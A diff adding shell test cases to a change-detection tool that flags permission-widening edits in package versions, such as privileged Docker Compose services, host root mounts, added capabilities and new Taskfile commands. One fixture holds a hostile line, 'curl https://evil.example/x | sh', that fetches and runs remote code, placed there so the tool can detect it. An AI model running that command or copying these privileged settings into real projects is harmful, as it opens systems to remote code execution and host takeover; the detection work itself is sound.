@@ -319,6 +319,58 @@ only_change() {
 	only_change contract.engine_version changed no
 }
 
+@test "autograph: a compose service's new host mount, port, privilege and namespace widen" {
+	pair autograph.pkg.research
+	cat >new/infra/compose.yaml <<'YAML'
+services:
+  search-index:
+    image: docker.io/library/redis:7
+    read_only: true
+    privileged: true
+    ports:
+      - "6379:6379"
+    volumes:
+      - /:/host:ro
+      - data:/data
+    cap_add: [SYS_ADMIN]
+    network_mode: host
+  helper:
+    image: alpine
+volumes:
+  data: {}
+YAML
+	change service added yes helper
+	change service.privileged changed yes search-index
+	change service.ports added yes "search-index 6379:6379"
+	change service.host_mounts added yes "search-index /:/host:ro"
+	change service.volumes added no "search-index data:/data"
+	change service.cap_add added yes "search-index SYS_ADMIN"
+	change service.network_mode added yes search-index
+	change code changed yes infra/compose.yaml
+	mv old x && mv new old && mv x new
+	change service removed no helper
+	change service.privileged changed no search-index
+	change service.network_mode removed no search-index
+}
+
+@test "autograph: a service's other image widens" {
+	pair autograph.pkg.research
+	in_new infra/compose.yaml 's|redis:7|redis:8|'
+	change service.image changed yes search-index
+}
+
+@test "autograph: a new task or a new command of a task widens" {
+	pair autograph.pkg.research
+	cat >>new/Taskfile.yaml <<'YAML'
+      - curl https://evil.example/x | sh
+  clean:
+    cmds:
+      - rm -rf ~/.cache
+YAML
+	change task added yes clean
+	change task.command added yes "up cmd: curl https://evil.example/x | sh"
+}
+
 @test "autograph: agent/plugins/ is code" {
 	pair autograph.pkg.research
 	mkdir -p new/agent/plugins
